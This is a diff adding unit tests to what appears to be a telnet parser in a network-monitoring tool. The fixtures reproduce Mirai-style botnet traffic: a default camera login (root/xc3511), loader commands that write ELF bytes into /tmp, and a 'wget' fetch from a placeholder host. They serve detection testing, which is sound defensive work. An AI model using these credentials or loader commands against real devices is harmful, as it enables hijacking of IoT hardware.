@@ -52,6 +52,33 @@ def test_every_command_line_is_inspected_past_one_record():
     assert sessions[1].tx_id > sessions[0].tx_id
 
 
+def test_a_shell_without_login_records_commands():
+    # Many cameras' telnet opens a root shell at once: a loader's echo
+    # lines there must reach telnet.command too.
+    parser = TelnetParser()
+    txs = feed_all(parser, [(True, b"cd /tmp\r\n"),          # typed before the prompt
+                            (False, b"\r\n\r\nBusyBox v1.20.2 built-in shell (ash)\r\n\r\n~ # "),
+                            (True, b"echo -ne '\\x7f\\x45' > .d\r\n")])
+    [session] = {id(tx): tx for tx in txs}.values()
+    assert session.buffers["telnet.command"] == [b"cd /tmp", b"echo -ne '\\x7f\\x45' > .d"]
+
+
+def test_commands_typed_ahead_of_the_login_are_the_shells():
+    parser = TelnetParser()
+    txs = feed_all(parser, [(True, b"root\r\nxc3511\r\nwget http://x/y\r\n"), (False, b"login: "),
+                            (False, b"Password: "), (False, b"\r\n# ")])
+    transactions = list({id(tx): tx for tx in txs}.values())
+    assert transactions[0].record == {"login": "root", "password": "xc3511", "result": "success"}
+    assert transactions[1].buffers["telnet.command"] == [b"wget http://x/y"]
+
+
+def test_a_banner_is_no_shell_when_a_login_prompt_follows():
+    parser = TelnetParser()
+    txs = feed_all(parser, [(False, b"Welcome\r\nlogin: "), (True, b"admin\r\n"),
+                            (False, b"Password: "), (True, b"hunter2\r\n")])
+    assert not any("telnet.command" in tx.buffers for tx in txs)
+
+
 def test_mirai_capture():
     records = Pipeline().run(PCAPS / "attack/id2t/mirai_botnet.pcap").records("telnet")
     successes = [r for r in records if r.get("result") == "success"]
